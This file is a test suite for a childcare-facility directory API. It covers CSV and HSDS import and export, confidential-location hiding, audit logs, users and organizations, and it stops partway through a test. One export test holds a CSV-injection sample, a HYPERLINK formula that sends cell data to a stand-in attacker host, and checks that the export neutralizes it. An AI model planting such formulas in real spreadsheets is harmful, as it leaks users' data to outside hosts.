// Import (all-or-nothing), export, audit, orgs, users, custom types.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import {
  startServer, assertError, assertOk, loadWorld, resourceInput, createResource, searchIds, toInput, assertOpenApi,
} from './lib.mjs';

let srv, w;
before(async () => { srv = await startServer(); w = await loadWorld(srv); });
after(async () => { await srv?.stop(); });

const q = (s) => 'q=' + encodeURIComponent(s);
const HEADER = '全国地方公共団体コード,ID,地方公共団体名,名称,名称_カナ,種別,住所,緯度,経度,電話番号,URL';
const row = (id, name, kana, lat = '35.4431', lon = '139.6380') =>
  `141003,${id},みなと市,${name},${kana},地域子育て支援拠点,神奈川県みなと市さくら区本町${id}-1,${lat},${lon},045-111-22${id.slice(-2)},https://example.jp/${id}`;
const goodRows = [
  row('T0001', '取込検証ひろば一', 'トリコミケンショウヒロバイチ'),
  row('T0002', '取込検証ひろば二', 'トリコミケンショウヒロバニ'),
  row('T0003', '取込検証ひろば三', 'トリコミケンショウヒロバサン'),
];
const csv = (rows) => '\ufeff' + [HEADER, ...rows].join('\r\n') + '\r\n';

function importPath(extra = '') {
  return `/api/v1/import?format=jp-facilities&public=1&org_id=${w.coord.user.org_id}${extra}`;
}
function assertReport(rep) {
  for (const k of ['format', 'encoding', 'dry_run', 'rows', 'created', 'updated', 'unchanged', 'rejected', 'errors']) assert.ok(k in rep, `ImportReport.${k}`);
  assert.equal(rep.format, 'jp-facilities');
  assert.ok(Array.isArray(rep.errors));
}

test('import: one bad row -> 422 with errors and nothing written; fixed file imports; re-import unchanged', async () => {
  const n0 = assertOk(await w.admin.get('/api/v1/resources?limit=1')).total;
  const bad = csv([goodRows[0], row('T0002', '', 'トリコミケンショウヒロバニ'), goodRows[2]]);
  const r = await w.coord.post(importPath(), bad, { 'Content-Type': 'text/csv' });
  assert.equal(r.status, 422, r.text.slice(0, 400));
  const rep = r.json;
  assertReport(rep);
  assert.equal(rep.rejected, 1);
  assert.equal(rep.created, 0, 'all-or-nothing: nothing reported created');
  assert.equal(rep.errors.length, 1, JSON.stringify(rep.errors));
  const e = rep.errors[0];
  assert.equal(e.line, 3, 'header is line 1, the bad row is line 3');
  assert.equal(e.column, '名称');
  assert.equal(typeof e.message, 'string');
  assert.ok(e.message.length > 0);
  assert.deepEqual(await searchIds(w.admin, q('取込検証')), [], 'nothing written');
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0);

  // Bad coordinates are caught too (column named).
  const r2 = await w.coord.post(importPath(), csv([goodRows[0], row('T0009', '取込検証ひろば九', 'トリコミ', '135.0', 'abc')]), { 'Content-Type': 'text/csv' });
  assert.equal(r2.status, 422);
  assert.equal(r2.json.errors[0].line, 3);
  assert.ok(['緯度', '経度'].includes(r2.json.errors[0].column), r2.json.errors[0].column);
  assert.deepEqual(await searchIds(w.admin, q('取込検証')), []);

  // Dry run of the fixed file: a report, nothing written.
  const dry = assertOk(await w.coord.post(importPath('&dry_run=1'), csv(goodRows), { 'Content-Type': 'text/csv' }));
  assertReport(dry);
  assert.equal(dry.dry_run, true);
  assert.equal(dry.rows, 3);
  assert.equal(dry.created, 3);
  assert.deepEqual(await searchIds(w.admin, q('取込検証')), []);

  // The fixed file.
  const ok = assertOk(await w.coord.post(importPath(), csv(goodRows), { 'Content-Type': 'text/csv' }));
  assertReport(ok);
  assert.equal(ok.dry_run, false);
  assert.match(ok.encoding, /utf-?8/i);
  assert.deepEqual([ok.rows, ok.created, ok.updated, ok.unchanged, ok.rejected], [3, 3, 0, 0, 0]);
  assert.deepEqual(ok.errors, []);
  const ids = await searchIds(srv.anon(), q('取込検証'));
  assert.equal(ids.length, 3, 'public=1 -> visible to anonymous');
  const one = assertOk(await w.admin.get(`/api/v1/resources/${ids[0]}`));
  assert.equal(one.org.id, w.coord.user.org_id);
  assert.equal(one.is_public, true);
  assert.match(one.source, /^jp-facilities/);
  assert.match(one.source_id, /^T000[123]$/);
  assert.equal(one.type, 'hub');
  assert.equal(one.fee.free, null, 'open data never says whether a place charges: not known, not 有料');
  // ... nor does HSDS, whose fees_description is then absent
  const svc = assertOk(await w.admin.get(`/hsds/services/${one.uuid}`));
  assert.ok(!svc.fees_description, `fees_description: ${svc.fees_description}`);

  // Re-import: all unchanged.
  const again = assertOk(await w.coord.post(importPath(), csv(goodRows), { 'Content-Type': 'text/csv' }));
  assert.deepEqual([again.rows, again.created, again.updated, again.unchanged, again.rejected], [3, 0, 0, 3, 0]);
  assert.equal((await searchIds(w.admin, q('取込検証'))).length, 3);
  // A changed row updates in place.
  const changed = csv([goodRows[0], goodRows[1], row('T0003', '取込検証ひろば三改', 'トリコミケンショウヒロバサン')]);
  const up = assertOk(await w.coord.post(importPath(), changed, { 'Content-Type': 'text/csv' }));
  assert.deepEqual([up.created, up.updated, up.unchanged], [0, 1, 2]);
  assert.equal((await searchIds(w.admin, q('取込検証'))).length, 3);
});

test('import: a coordinator writes only what it may edit, row by row', async () => {
  // 地方公共団体名 よその市: a city outside the coordinator's ward (created by the import).
  const outRow = (id, name) =>
    `141003,${id},よその市,${name},クガイ,地域子育て支援拠点,神奈川県よその市本町1-1,35.4431,139.6380,045-111-2299,https://example.jp/${id}`;
  // 地方公共団体名 みなと市さくら区: the coordinator's ward.
  const mine = row('T0201', '権限確認区内ひろば', 'ケンゲンカクニンクナイヒロバ').replace(',みなと市,', ',みなと市さくら区,');
  // The admin may import outside the ward, for another organization (the
  // coordinator may edit its own organization's resources anywhere).
  const other = (extra = '') => `/api/v1/import?format=jp-facilities&public=1&org_id=${w.staffB.user.org_id}${extra}`;
  const made = assertOk(await w.admin.post(other(), csv([outRow('T0200', '権限確認区外ひろば')]), { 'Content-Type': 'text/csv' }));
  assert.equal(made.created, 1);
  const [outId] = await searchIds(w.admin, q('権限確認区外ひろば'));
  assert.ok(outId);
  assert.equal(assertOk(await w.coord.get(`/api/v1/resources/${outId}`)).can_edit, false);

  // The coordinator may not change it by importing it again, nor learn by a
  // dry run whether its stored fields equal the file's (no oracle).
  for (const [extra, body] of [
    ['', csv([mine, outRow('T0200', '権限確認区外を上書き')])],
    ['&dry_run=1', csv([outRow('T0200', '権限確認区外を上書き')])],
  ]) {
    const r = await w.coord.post(other(extra), body, { 'Content-Type': 'text/csv' });
    assert.equal(r.status, 403, r.text.slice(0, 300));
    assertReport(r.json);
    assertOpenApi(r, '/api/v1/import', 'post'); // a 403 that is an ImportReport
    assert.deepEqual([r.json.created, r.json.updated, r.json.unchanged], [0, 0, 0]);
    const e = r.json.errors.find((x) => x.message.includes('権限'));
    assert.ok(e, JSON.stringify(r.json.errors));
    assert.equal(e.line, body.includes(mine) ? 3 : 2);
    assert.equal(r.json.errors.length, 1, 'only the refused row is reported');
  }
  assert.equal(assertOk(await w.admin.get(`/api/v1/resources/${outId}`)).name, '権限確認区外ひろば');
  // Left as stored, it passes as unchanged (a coordinator's own export holds such rows);
  // it could read all of it anyway.
  const same = assertOk(await w.coord.post(other('&dry_run=1'), csv([outRow('T0200', '権限確認区外ひろば')]), { 'Content-Type': 'text/csv' }));
  assert.deepEqual([same.created, same.updated, same.unchanged, same.rejected], [0, 0, 1, 0]);
  // A confidential one it may not locate: its location is taken as stored, so a dry run
  // answers the same for a right and a wrong guess at the address (no oracle).
  const cur = assertOk(await w.admin.get(`/api/v1/resources/${outId}`));
  assertOk(await w.admin.put(`/api/v1/resources/${outId}`, { ...toInput(cur), is_confidential: true, front_door: '045-000-9999' }));
  const answers = [];
  for (const addr of ['神奈川県よその市本町1-1', '神奈川県よその市別町9-9']) {
    const guess = outRow('T0200', '権限確認区外ひろば').replace('神奈川県よその市本町1-1', addr);
    const g = await w.coord.post(other('&dry_run=1'), csv([guess]), { 'Content-Type': 'text/csv' });
    answers.push([g.status, g.json.unchanged, g.json.updated, g.json.rejected]);
  }
  assert.deepEqual(answers[0], answers[1], 'a guess at a hidden address changes nothing in the answer: ' + JSON.stringify(answers));
  assert.deepEqual(await searchIds(w.admin, q('権限確認区内ひろば')), [], 'all or nothing: the allowed row was not written');

  // Nor create there; inside its ward it may.
  const nw = await w.coord.post(other(), csv([outRow('T0202', '権限確認新規区外')]), { 'Content-Type': 'text/csv' });
  assert.equal(nw.status, 403);
  assert.deepEqual(await searchIds(w.admin, q('権限確認新規区外')), []);
  const ok = assertOk(await w.coord.post(other(), csv([mine]), { 'Content-Type': 'text/csv' }));
  assert.equal(ok.created, 1);
  const [mineId] = await searchIds(w.admin, q('権限確認区内ひろば'));

  assert.equal(assertOk(await w.admin.get(`/api/v1/resources/${mineId}`)).org.id, w.staffB.user.org_id);
});

test('import: who may, and bad requests', async () => {
  const body = csv(goodRows);
  const st = await w.staffA.post(importPath(), body, { 'Content-Type': 'text/csv' });
  assertError(st, 403, 'forbidden');
  assertOpenApi(st, '/api/v1/import', 'post'); // a 403 that is an Error
  const an = await srv.anon().post(importPath(), body, { 'Content-Type': 'text/csv' });
  assert.ok([401, 403].includes(an.status));
  assertError(await w.coord.post('/api/v1/import?format=nope', body, { 'Content-Type': 'text/csv' }), 400, 'invalid');
  assertError(await w.coord.post(importPath(), body, { 'Content-Type': 'text/csv', 'X-CSRF-Token': null }), 403, 'csrf');
  assertError(await w.coord.post(importPath(), body, { 'Content-Type': 'image/png' }), 415, 'unsupported_media_type');
});

test('export CSV and HSDS: no file holds a confidential location, whoever asks', async () => {
  const secret = await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, {
    name: '書出秘匿シェルター', is_confidential: true, front_door: '045-000-2222',
    address: { postal_code: '231-0009', prefecture: '神奈川県', city: 'みなと市さくら区', line: '秘密町9-9-9', building: null },
    location: { lat: 35.4123, lon: 139.6123 },
  }));
  void secret;
  const c = await w.coord.get('/api/v1/export?format=csv');
  assert.equal(c.status, 200);
  assert.match(c.headers['content-type'], /^text\/csv/);
  assert.match(c.headers['content-disposition'] || '', /attachment/);
  assert.ok(c.text.includes('書出秘匿シェルター'));
  // A file leaves tsunagu's access rules: the coordinator, who may see the address on
  // screen, gets the front door in the file, not the address.
  assert.ok(!c.text.includes('秘密町9-9-9') && !c.text.includes('35.4123'), 'no confidential location in the coordinator\'s CSV');
  const cline = c.text.split('\r\n').find((l) => l.includes('書出秘匿シェルター'));
  assert.ok(cline.includes('045-000-2222'), `the front door instead: ${cline}`);
  const ch = await w.coord.get('/api/v1/export?format=hsds');
  assert.ok(ch.text.includes('書出秘匿シェルター') && !ch.text.includes('秘密町9-9-9') && !ch.text.includes('139.6123'),
    'no confidential location in the coordinator\'s HSDS');
  const b = await w.staffB.get('/api/v1/export?format=csv');
  assert.equal(b.status, 200);
  assert.ok(b.text.includes('書出秘匿シェルター'));
  assert.ok(!b.text.includes('秘密町9-9-9'), 'staff_b export hides the address');
  assert.ok(!b.text.includes('35.4123') && !b.text.includes('139.6123'), 'staff_b export hides the coordinates');
  const line = b.text.split('\r\n').find((l) => l.includes('書出秘匿シェルター'));
  assert.ok(!line.includes('みなと市さくら区'), `staff_b export hides the city part of the address too: ${line}`);
  // A cell a spreadsheet would run as a formula gets an apostrophe (CSV injection).
  const evil = '=HYPERLINK("https://evil.example/?a="&G2&H2,"詳細")';
  await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, { name: evil, phone: '045-000-4444' }));
  const c2 = await w.coord.get('/api/v1/export?format=csv');
  assert.ok(c2.text.includes(`"'=HYPERLINK(""https://evil.example/`), 'the formula is neutralized');
  assert.ok(!/(^|,)"?=HYPERLINK/m.test(c2.text), 'no cell starts with =');
  const h = await w.staffB.get('/api/v1/export?format=hsds');
  assert.equal(h.status, 200);
  assert.ok(h.raw.length > 0);
  if (/json/.test(h.headers['content-type'])) {
    assert.ok(h.json, 'HSDS export parses as JSON');
    assert.ok(!h.text.includes('秘密町9-9-9') && !h.text.includes('139.6123'));
  }
  const ah = await w.admin.get('/api/v1/export?format=hsds');
  assert.equal(ah.status, 200);
  assertError(await srv.anon().get('/api/v1/export?format=csv'), 401, 'unauthorized');
  assertError(await w.admin.get('/api/v1/export?format=xml'), 400, 'invalid');
});

test('import of tsunagu\'s own CSV export: nothing changes; an edited row updates its place, matched by tsunagu_uuid', async () => {
  const mine = await createResource(w.coord, resourceInput(w.coord.user.org_id, w.d1.id, {
    name: '往復確認ひろば', accessibility_notes: '入口にスロープがあります', hours: [
      { weekday: 1, open: '10:00', close: '15:00' }, { weekday: 3, open: '09:30', close: '12:00' }] }));
  const n0 = assertOk(await w.admin.get('/api/v1/resources?limit=1')).total;
  const exp = await w.coord.get('/api/v1/export?format=csv');
  assert.equal(exp.status, 200);
  const rows = exp.text.trim().split('\r\n').length - 1;
  // As exported (a coordinator's file holds other organizations' rows too, which it may not
  // write: they pass as unchanged).
  const dry = assertOk(await w.coord.post('/api/v1/import?format=jp-facilities&dry_run=1', exp.text, { 'Content-Type': 'text/csv' }));
  assert.deepEqual([dry.rows, dry.created, dry.updated, dry.unchanged, dry.rejected], [rows, 0, 0, rows, 0], JSON.stringify(dry.errors.slice(0, 3)));
  // One name edited (in a spreadsheet): that place, not a new one.
  const edited = exp.text.replace('往復確認ひろば', '往復確認ひろば（改）');
  const up = assertOk(await w.coord.post('/api/v1/import?format=jp-facilities', edited, { 'Content-Type': 'text/csv' }));
  assert.deepEqual([up.created, up.updated, up.rejected], [0, 1, 0], JSON.stringify(up.errors.slice(0, 3)));
  const after = assertOk(await w.admin.get(`/api/v1/resources/${mine.id}`));
  assert.equal(after.name, '往復確認ひろば（改）');
  assert.equal(after.area_id, mine.area_id, 'the district is kept (the file names its city)');
  assert.equal(after.accessibility_notes, '入口にスロープがあります', 'what the export does not carry is kept');
  assert.equal(after.hours.length, 2, 'every weekly interval comes back (tsunagu_hours)');
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0, 'no duplicate');
  // A tsunagu_uuid that names no place, without a code: refused, nothing written.
  const lines = exp.text.split('\r\n');
  const hdr = lines[0].replace(/^\ufeff/, '').split(',');
  const row = lines.find((l) => l.includes('往復確認ひろば'));
  const ghost = row.replace(mine.uuid, '00000000-0000-7000-8000-000000000000').replace('往復確認ひろば', '往復確認ゆうれい');
  assert.ok(hdr.includes('tsunagu_uuid'));
  const bad = await w.coord.post('/api/v1/import?format=jp-facilities', [lines[0], ghost].join('\r\n'), { 'Content-Type': 'text/csv' });
  assert.equal(bad.status, 422, bad.text.slice(0, 300));
  assert.equal(bad.json.errors[0].column, 'tsunagu_uuid');
  assert.deepEqual(await searchIds(w.admin, q('往復確認ゆうれい')), []);
});

test('import of tsunagu\'s own HSDS export: nothing changes or is duplicated; confidential places keep their location and flags', async () => {
  const shelter = await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, {
    name: 'HSDS往復秘匿シェルター', is_confidential: true, is_public: false, front_door: '045-000-7777', capacity: 12,
    address: { postal_code: '231-0010', prefecture: '神奈川県', city: 'みなと市さくら区', line: '往復町7-7-7', building: null },
    location: { lat: 35.4177, lon: 139.6177 }, email: 'hsds-secret@example.jp', accessibility_notes: '裏口から',
  }));
  const plain = await createResource(w.coord, resourceInput(w.coord.user.org_id, w.d1.id, { name: 'HSDS往復ひろば', capacity: 30 }));
  const n0 = assertOk(await w.admin.get('/api/v1/resources?limit=1')).total;
  const exp = await w.admin.get('/api/v1/export?format=hsds');
  assert.equal(exp.status, 200);
  const svcs = JSON.parse(exp.text);
  assert.ok(!exp.text.includes('往復町7-7-7') && !exp.text.includes('hsds-secret@'), 'the export holds no confidential location');
  const body = JSON.stringify(svcs);
  const imp = (who, text, dry) => who.post(`/api/v1/import?format=hsds${dry ? '&dry_run=1' : ''}`, text, { 'Content-Type': 'application/json' });
  // the coordinator's own file, back: every service is its resource, unchanged
  const dry = assertOk(await imp(w.coord, body, true));
  assert.deepEqual([dry.rows, dry.created, dry.updated, dry.rejected], [svcs.length, 0, 0, 0], JSON.stringify(dry.errors.slice(0, 3)));
  const real = assertOk(await imp(w.admin, body, false));
  assert.deepEqual([real.created, real.updated, real.rejected], [0, 0, 0], JSON.stringify(real.errors.slice(0, 3)));
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0, 'no duplicate');
  const s1 = assertOk(await w.admin.get(`/api/v1/resources/${shelter.id}`));
  assert.equal(s1.is_confidential, true);
  assert.equal(s1.is_public, false);
  assert.equal(s1.address.line, '往復町7-7-7');
  assert.deepEqual(s1.location, { lat: 35.4177, lon: 139.6177 });
  assert.equal(s1.email, 'hsds-secret@example.jp');
  assert.equal(s1.capacity, 12, 'what HSDS does not carry is kept');
  assert.equal(s1.version, shelter.version, 'not written');
  // anonymous: still not listed
  assert.ok(!(await searchIds(srv.anon(), q('HSDS往復秘匿'))).includes(shelter.id));
  // an edited name updates that place (by its uuid), keeping the rest
  const edited = body.replace('"HSDS往復ひろば"', '"HSDS往復ひろば（改）"');
  const up = assertOk(await imp(w.admin, edited, false));
  assert.deepEqual([up.created, up.updated], [0, 1], JSON.stringify(up.errors.slice(0, 3)));
  const p1 = assertOk(await w.admin.get(`/api/v1/resources/${plain.id}`));
  assert.equal(p1.name, 'HSDS往復ひろば（改）');
  assert.equal(p1.capacity, 30);
  assert.equal(p1.area_id, plain.area_id, 'the district is kept (the file names its city)');
  // a service whose resource is gone is created again, and then matched by its id
  const gone = await createResource(w.coord, resourceInput(w.coord.user.org_id, w.d1.id, { name: 'HSDS往復消去ひろば' }));
  const exp2 = JSON.parse((await w.admin.get('/api/v1/export?format=hsds')).text).filter((x) => x.id === gone.id || x.name === 'HSDS往復消去ひろば');
  assert.equal(exp2.length, 1);
  const del = await w.admin.del(`/api/v1/resources/${gone.id}`);
  assert.ok(del.status === 204 || del.status === 200, `delete: ${del.status} ${del.text}`);
  const again = assertOk(await imp(w.admin, JSON.stringify(exp2), false));
  assert.deepEqual([again.created, again.updated], [1, 0]);
  const third = assertOk(await imp(w.admin, JSON.stringify(exp2), false));
  assert.deepEqual([third.created, third.updated, third.unchanged], [0, 0, 1]);
  // HSDS cannot say whether a place is public: one a tsunagu HSDS file creates is
  // staff-only, and one whose only contact is its front door is confidential
  const [back] = await searchIds(w.admin, q('HSDS往復消去ひろば'));
  assert.equal(assertOk(await w.admin.get(`/api/v1/resources/${back}`)).is_public, false, 'created staff-only');
  const sh = JSON.parse((await w.admin.get('/api/v1/export?format=hsds')).text).filter((x) => x.id === shelter.uuid);
  assertOk(await w.admin.del(`/api/v1/resources/${shelter.id}`), 204);
  assert.equal(assertOk(await imp(w.admin, JSON.stringify(sh), false)).created, 1);
  const [sid] = await searchIds(w.admin, q('HSDS往復秘匿シェルター'));
  const s2 = assertOk(await w.admin.get(`/api/v1/resources/${sid}`));
  assert.deepEqual([s2.is_public, s2.is_confidential, s2.front_door, s2.location], [false, true, '045-000-7777', null]);
});

test('index: a place imported and edited in the same second does not hide the next import of that second', async () => {
  // The refresher counted puts at the latest updated_at second, not rows: the edit
  // counted the imported row twice, so a third row of that second looked seen.
  let same = 0;
  for (let t = 0; t < 5 && !same; t++) {
    const a = await w.admin.post(importPath(), csv([row(`Q${t}01`, `同秒確認${t}ひろば一`, 'ドウビョウ')]), { 'Content-Type': 'text/csv' });
    assertOk(a);
    const [ida] = await searchIds(w.admin, q(`同秒確認${t}ひろば一`));
    const cur = assertOk(await w.admin.get(`/api/v1/resources/${ida}`));
    const put = assertOk(await w.admin.put(`/api/v1/resources/${ida}`, { ...toInput(cur), description: '同じ秒の編集' }));
    assertOk(await w.admin.post(importPath(), csv([row(`Q${t}02`, `同秒確認${t}ひろば二`, 'ドウビョウ')]), { 'Content-Type': 'text/csv' }));
    const ids = await searchIds(w.admin, q(`同秒確認${t}ひろば二`));
    assert.equal(ids.length, 1, `the second import of the second is found (attempt ${t})`);
    same = assertOk(await w.admin.get(`/api/v1/resources/${ids[0]}`)).updated_at === put.updated_at;
  }
  assert.ok(same, 'the three writes fell into one second at least once');
});

test('audit: admin sees entries for writes, newest first, paging; others 403', async () => {
  const r = await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, { name: '監査確認ひろば' }));
  assert.equal((await w.staffA.del(`/api/v1/resources/${r.id}`)).status, 204);
  const a = assertOk(await w.admin.get('/api/v1/audit?limit=100'));
  assert.ok(Array.isArray(a.items));
  const mine = a.items.filter((e) => String(e.object_id) === String(r.id) && /resource/.test(e.object_type));
  assert.ok(mine.length >= 2, `create + delete audited: ${JSON.stringify(a.items.slice(0, 3))}`);
  for (const e of a.items) for (const k of ['id', 'at', 'action', 'object_type']) assert.ok(k in e, `audit.${k}`);
  const ids = a.items.map((e) => e.id);
  assert.deepEqual(ids, [...ids].sort((x, y) => y - x), 'newest first');
  const p = assertOk(await w.admin.get('/api/v1/audit?limit=1'));
  assert.equal(p.items.length, 1);
  const older = assertOk(await w.admin.get(`/api/v1/audit?limit=100&before=${p.items[0].id}`));
  assert.ok(older.items.every((e) => e.id < p.items[0].id));
  for (const who of ['coord', 'staffA', 'staffB']) assertError(await w[who].get('/api/v1/audit'), 403, 'forbidden');
  assertError(await srv.anon().get('/api/v1/audit'), 401, 'unauthorized');
});

test('orgs, users, types: happy paths and permissions', async () => {
  const admin = w.admin;
  const orgs = assertOk(await (await srv.login('viewer')).get('/api/v1/orgs')).items;
  assert.ok(orgs.some((o) => o.id === w.staffA.user.org_id));
  for (const k of ['id', 'uuid', 'name', 'name_kana', 'kind', 'area_id', 'phone', 'email', 'url', 'description']) assert.ok(k in orgs[0], `Org.${k}`);
  assertError(await srv.anon().get('/api/v1/orgs'), 401, 'unauthorized');

  const cr = await admin.post('/api/v1/orgs', { name: 'テスト子育てネット', name_kana: 'てすとこそだてねっと', kind: 'NPO法人', area_id: w.d1.id, phone: null, email: null, url: null, description: null });
  assert.equal(cr.status, 201, cr.text);
  const org = cr.json;
  const orgInput = Object.fromEntries(['name', 'name_kana', 'kind', 'area_id', 'phone', 'email', 'url', 'description'].map((k) => [k, org[k]]));
  const up = assertOk(await admin.put(`/api/v1/orgs/${org.id}`, { ...orgInput, description: '更新しました' }));
  assert.equal(up.name, 'テスト子育てネット');
  assert.equal(up.description, '更新しました');
  assertError(await w.staffA.put(`/api/v1/orgs/${org.id}`, { name: '乗っ取り' }), 403, 'forbidden');

  // Password length in characters (code points), 8 to 1024: 3 kanji (9 bytes) are too
  // short, 1025 kanji too long — a 400 naming the field, not a 500; 400 kanji (1200 bytes) fit.
  const pw = (password) => admin.post('/api/v1/users', { login: 'pwlen', display_name: 'x', role: 'viewer', org_id: org.id, password });
  for (const p of ['日本語', '語'.repeat(1025)]) assert.equal(assertError(await pw(p), 400, 'invalid').field, 'password', p.slice(0, 5));
  assert.equal((await admin.post('/api/v1/users', { login: 'pwlen400', display_name: 'x', role: 'viewer', org_id: org.id, password: '語'.repeat(400) })).status, 201);
  const u8 = await pw('日本語のパスワー');
  assert.equal(u8.status, 201, `8 characters are enough: ${u8.text}`);

  const u = await admin.post('/api/v1/users', { login: 'newstaff', display_name: '新しい職員', role: 'staff', org_id: org.id, password: 'new-staff-password' });
  assert.equal(u.status, 201, u.text);
  assert.equal(u.json.org_id, org.id);
  assert.ok(!('password_hash' in u.json));
  const ns = await srv.login('newstaff', 'new-staff-password');
  assert.equal(ns.user.role, 'staff');
  assertError(await ns.get('/api/v1/users'), 403, 'forbidden');
  assertError(await ns.post('/api/v1/users', { login: 'evil', display_name: 'x', role: 'admin', org_id: org.id, password: 'long-enough-pw' }), 403, 'forbidden');
  // Disable: can no longer log in.
  const dis = assertOk(await admin.put(`/api/v1/users/${u.json.id}`, { display_name: '新しい職員', role: 'staff', org_id: org.id, disabled: true }));
  assert.equal(dis.disabled, true);
  assertError(await srv.anon().post('/api/v1/session', { login: 'newstaff', password: 'new-staff-password' }), 401, 'unauthorized');
  assertError(await ns.get('/api/v1/session'), 401, 'unauthorized');

  const t = await w.coord.post('/api/v1/types', { code: 'test_ibasho', name_ja: '試験の居場所', name_en: 'Test place' });
  assert.equal(t.status, 201, t.text);
  const meta = assertOk(await srv.anon().get('/api/v1/meta'));
  const ty = meta.types.find((x) => x.code === 'test_ibasho');
  assert.deepEqual(ty, { code: 'test_ibasho', name_ja: '試験の居場所', name_en: 'Test place', builtin: false });
  for (const k of ['types', 'tags', 'areas', 'tile_url', 'tile_attribution', 'verify_after_days']) assert.ok(k in meta, `meta.${k}`);
  const dup = await w.coord.post('/api/v1/types', { code: 'test_ibasho', name_ja: 'x', name_en: 'x' });
  assert.ok([400, 409].includes(dup.status), `duplicate type: ${dup.status}`);
  assertError(dup, dup.status);
  await createResource(w.staffA, resourceInput(w.staffA.user.org_id, w.d1.id, { type: 'test_ibasho', name: '独自種別ひろば' }));
});

test('renaming an organization renames it in its resources: search by the new name, results show it', async () => {
  const org = assertOk(await w.admin.post('/api/v1/orgs', { name: '改名前もみじの会', kind: 'NPO', area_id: w.d1.id }), 201);
  const r = await createResource(w.admin, resourceInput(org.id, w.d1.id, { name: '改名確認ひろば', is_public: true }));
  const before = assertOk(await w.admin.get(`/api/v1/resources?${q('改名前もみじ')}&limit=100`));
  assert.ok(before.items.some((i) => i.id === r.id), 'found by the old organization name');
  // warm the caches with the old name, then rename
  assert.equal(before.items.find((i) => i.id === r.id).org.name, '改名前もみじの会');
  assertOk(await w.admin.put(`/api/v1/orgs/${org.id}`, { name: '改名後かえでの会', kind: 'NPO', area_id: w.d1.id }));
  const after = assertOk(await w.admin.get(`/api/v1/resources?${q('改名後かえで')}&limit=100`));
  const hit = after.items.find((i) => i.id === r.id);
  assert.ok(hit, 'found by the new organization name');
  assert.equal(hit.org.name, '改名後かえでの会', 'the result shows the new name');
  assert.deepEqual(await searchIds(w.admin, q('改名前もみじ')), [], 'the old name no longer matches');
  const anon = assertOk(await srv.anon().get(`/api/v1/resources?${q('改名確認ひろば')}`));
  assert.equal(anon.items.find((i) => i.id === r.id).org.name, '改名後かえでの会', 'public search too');
  assert.equal(assertOk(await w.admin.get(`/api/v1/resources/${r.id}`)).org.name, '改名後かえでの会');
  // the version of the resource is untouched (derived data only)
  assert.equal(assertOk(await w.admin.get(`/api/v1/resources/${r.id}`)).version, r.version);
});

test('verification-due: at most 200 listed, "more" says when there are others; staff see only their own', async () => {
  const rows = [];
  for (let i = 0; i < 205; i++) {
    const id = `V${String(i).padStart(4, '0')}`;
    rows.push(row(id, `確認一覧検証${i}`, 'カクニンイチランケンショウ'));
  }
  const rep = assertOk(await w.coord.post(importPath(), csv(rows), { 'Content-Type': 'text/csv' }));
  assert.equal(rep.created, 205);
  const due = assertOk(await w.coord.get('/api/v1/verification-due'));
  assert.equal(due.items.length, 200);
  assert.equal(due.more, true);
  assert.equal(typeof due.verify_after_days, 'number');
  const ids = due.items.map((i) => i.id);
  assert.deepEqual(ids, [...ids].sort((a, b) => a - b), 'oldest ids first');
  const mine = assertOk(await w.staffA.get('/api/v1/verification-due'));
  assert.equal(mine.more, false);
  assert.ok(mine.items.every((i) => i.org.id === w.staffA.user.org_id), 'staff: their own organization only');
  assert.ok(!mine.items.some((i) => i.name.startsWith('確認一覧検証')));
});

test('passwords: up to 1024 characters whatever their bytes (not 500); more is 400 with the field', async () => {
  const long = '😀'.repeat(300); // 1,200 bytes
  const u = await w.admin.post('/api/v1/users', { login: 'pwlong300', display_name: '長い合言葉', role: 'viewer', org_id: w.coord.user.org_id, password: long });
  assert.equal(u.status, 201, u.text);
  const c = await srv.login('pwlong300', long);
  const next = 'あ'.repeat(1024); // 3,072 bytes
  assertOk(await c.post('/api/v1/session/password', { current_password: long, new_password: next }), 204);
  await srv.login('pwlong300', next);
  const over = await w.admin.post('/api/v1/users', { login: 'pwlong1025', display_name: 'x', role: 'viewer', org_id: w.coord.user.org_id, password: 'a'.repeat(1025) });
  assert.equal(assertError(over, 400, 'invalid').field, 'password');
});

test('import: dry_run and public take 1/true/0/false only; anything else is 400 with the field and nothing written', async () => {
  const n0 = assertOk(await w.admin.get('/api/v1/resources?limit=1')).total;
  const body = csv([row('T0901', '旗検査ひろば', 'ハタケンサヒロバ')]);
  const base = `/api/v1/import?format=jp-facilities&org_id=${w.coord.user.org_id}`;
  for (const [qs, field] of [['&dry_run=yes', 'dry_run'], ['&public=no', 'public'], ['&dry_run=1&public=', 'public'], ['&dry_run=2', 'dry_run']]) {
    const e = assertError(await w.admin.post(base + qs, body, { 'Content-Type': 'text/csv' }), 400, 'invalid');
    assert.equal(e.field, field, qs);
  }
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0, 'nothing written');
  const dry = assertOk(await w.admin.post(base + '&dry_run=true&public=false', body, { 'Content-Type': 'text/csv' }));
  assert.equal(dry.dry_run, true);
  assert.equal(assertOk(await w.admin.get('/api/v1/resources?limit=1')).total, n0);
});

test('a tsunagu CSV export says which places are public and which hide their location; an import that creates them keeps that', async () => {
  const exp = await w.coord.get('/api/v1/export?format=csv');
  const hdr = exp.text.split('\r\n')[0].replace(/^\ufeff/, '').split(',');
  for (const c of ['tsunagu_public', 'tsunagu_confidential', '窓口']) assert.ok(hdr.includes(c), c);
  const line = (o) => hdr.map((k) => o[k] ?? '').join(',');
  const base = { 全国地方公共団体コード: '141003', 地方公共団体名: 'みなと市', 名称_カナ: 'ホカラキタ', 種別: '地域子育て支援拠点', tsunagu_type: 'hub' };
  const file = '\ufeff' + [hdr.join(','),
    line({ ...base, ID: 'OT0001', 名称: '他市から来た非公開ひろば', tsunagu_uuid: '00000000-0000-7000-8000-0000000000a1', 住所: 'さくら区本町1-1', tsunagu_public: '0', tsunagu_confidential: '0' }),
    line({ ...base, ID: 'OT0002', 名称: '他市から来たシェルター', tsunagu_uuid: '00000000-0000-7000-8000-0000000000a2', 窓口: '045-000-5555', tsunagu_public: '0', tsunagu_confidential: '1' }),
